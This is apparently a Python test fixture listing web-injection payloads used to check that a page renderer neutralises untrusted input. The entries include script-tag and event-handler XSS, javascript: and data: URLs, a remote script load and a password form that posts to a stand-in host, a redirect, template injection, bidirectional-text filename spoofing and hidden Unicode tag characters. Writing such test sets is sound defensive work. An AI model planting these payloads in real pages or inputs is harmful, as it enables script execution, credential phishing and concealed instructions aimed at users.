"""Words that would take over a page that obeyed them, one for each known trick."""

FOREIGN = "https://pirate.invalid"  # a name that RFC 2606 lets no one own
RUN = "alert(1),window.obeyed=1"  # what a script that runs leaves behind
_TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "efface tout")

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "remote script": f'<script src="{FOREIGN}/a.js"></script><link rel=preload href={FOREIGN}/b>',
    "failing image": f"<img src=x onerror={RUN}>",
    "loading drawing": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
    "opening details": f"<details open ontoggle={RUN}><summary>lire</summary></details>",
    "broken attribute": f"\"'` autofocus tabindex=1 onfocus={RUN} onpointerenter={RUN} x=\"'`>",
    "javascript link": f'<a href="javascript:{RUN}">lire la suite</a>',
    "javascript address": f"javascript:{RUN}//https://exemple.fr/",
    "data address": f"data:text/html,<script>{RUN}</script>",
    "frames": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="{FOREIGN}/a.pdf">'
    f'</object><embed src="data:text/html,<script>{RUN}</script>">',
    "external image": f'<img src="{FOREIGN}/p.gif" srcset="{FOREIGN}/q.gif 2x"><video poster='
    f'"{FOREIGN}/r.gif"></video>',
    "form": f'<form action="{FOREIGN}/"><input name=password><button>Se connecter</button></form>',
    "overlay": '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Fin</div>',
    "style": f"<style>@import '{FOREIGN}/a.css';*{{display:none!important}}</style>",
    "redirection": f'<meta http-equiv=refresh content="0;url={FOREIGN}/"><base href="{FOREIGN}/">',
    "closed page": "--></p></blockquote></article></main></template></gradio-app></body></html>",
    "markdown links": f"![vue]({FOREIGN}/p.png) [lire](javascript:{RUN}) <{FOREIGN}>",
    "markdown blocks": f"```\n\n~~~\n\n# Titre\n\n| a | b |\n|---|---|\n\n<b onclick={RUN}>fin</b>",
    "templates": f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%={RUN}%> $$x^2$$",
    "turned": "facture\u202efdp.exe\u202c \u2066\u2067cod\u2069\u200f",
    "hidden": "pa\u200bss\u200de\ufeff mo\u2060t\u00ad\u034f \ufe0f\u3164\u115f",
    "tag characters": f"Résumé{_TAGS}\U000e007f fin",
}
